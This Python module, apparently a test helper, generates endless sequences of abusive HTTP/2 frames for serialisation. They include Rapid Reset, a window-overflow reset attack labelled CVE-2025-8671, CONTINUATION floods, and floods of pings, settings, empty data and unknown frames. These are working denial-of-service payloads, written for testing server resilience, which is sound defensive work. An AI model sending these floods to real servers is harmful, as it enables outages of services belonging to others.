"""Abusive frame sequences, each an endless generator of (bytes, frames in them)."""

from itertools import count

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

REQUEST = [(":method", "POST"), (":scheme", "http"), (":path", "/wait"), (":authority", "h")]


def headers(encoder, stream_id, fields=REQUEST, flags=("END_HEADERS",)):
    return HeadersFrame(stream_id, encoder.encode(fields), flags=list(flags)).serialize()


def rapid_reset(encoder):
    for stream_id in count(1, 2):
        yield headers(encoder, stream_id, flags=("END_HEADERS", "END_STREAM")), 1
        yield RstStreamFrame(stream_id, error_code=8).serialize(), 1


def made_you_reset(encoder):
    """CVE-2025-8671: the server resets, because the window overflows."""
    for stream_id in count(1, 2):
        yield headers(encoder, stream_id, flags=("END_HEADERS", "END_STREAM")), 1
        yield WindowUpdateFrame(stream_id, window_increment=2**31 - 1).serialize(), 1


def malformed_requests(encoder):
    for stream_id in count(1, 2):
        fields = [(":method", "GET"), (":path", "/"), (":scheme", "http"), ("connection", "x")]
        yield headers(encoder, stream_id, fields, ("END_HEADERS", "END_STREAM")), 1


def refused_streams(encoder):
    for stream_id in count(1, 2):
        yield headers(encoder, stream_id, flags=("END_HEADERS", "END_STREAM")), 1


def continuations(encoder):
    yield HeadersFrame(1, encoder.encode(REQUEST)).serialize(), 1
    while True:
        yield ContinuationFrame(1, b"").serialize(), 1


def continuations_over_streams(encoder):
    """A few on each of many requests, below any bound on one header block."""
    for stream_id in count(1, 2):
        yield HeadersFrame(stream_id, encoder.encode(REQUEST), flags=["END_STREAM"]).serialize(), 1
        for i in range(4):
            flags = ["END_HEADERS"] if i == 3 else []
            yield ContinuationFrame(stream_id, b"", flags=flags).serialize(), 1


def empty_data(encoder):
    yield headers(encoder, 1), 1
    while True:
        yield DataFrame(1, b"").serialize(), 1


def padded_empty_data(encoder):
    yield headers(encoder, 1), 1
    while True:
        yield DataFrame(1, b"", pad_length=5, flags=["PADDED"]).serialize(), 1


def pings(encoder):
    while True:
        yield PingFrame(0, bytes(8)).serialize(), 1


def ping_acks(encoder):
    while True:
        yield PingFrame(0, bytes(8), flags=["ACK"]).serialize(), 1


def settings(encoder):
    while True:
        yield SettingsFrame(0, {}).serialize(), 1


def settings_acks(encoder):
    while True:
        yield SettingsFrame(0, flags=["ACK"]).serialize(), 1


def window_updates(encoder):
    while True:
        yield WindowUpdateFrame(0, window_increment=1).serialize(), 1


def priorities(encoder):
    for stream_id in count(1, 2):
        yield PriorityFrame(stream_id, depends_on=0, stream_weight=1).serialize(), 1


def unknown_frames(encoder):
    while True:
        yield ExtensionFrame(type=0xF0, stream_id=0, body=b"").serialize(), 1


FLOODS = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        made_you_reset,
        malformed_requests,
        refused_streams,
        continuations,
        continuations_over_streams,
        empty_data,
        padded_empty_data,
        pings,
        ping_acks,
        settings,
        settings_acks,
        window_updates,
        priorities,
        unknown_frames,
    )
}


def flood_bytes(name, n_frames):
    """The first `n_frames` of a flood."""
    out = b""
    total = 0
    for data, n in FLOODS[name](Encoder()):
        out += data
        total += n
        if total >= n_frames:
            return out
    raise AssertionError
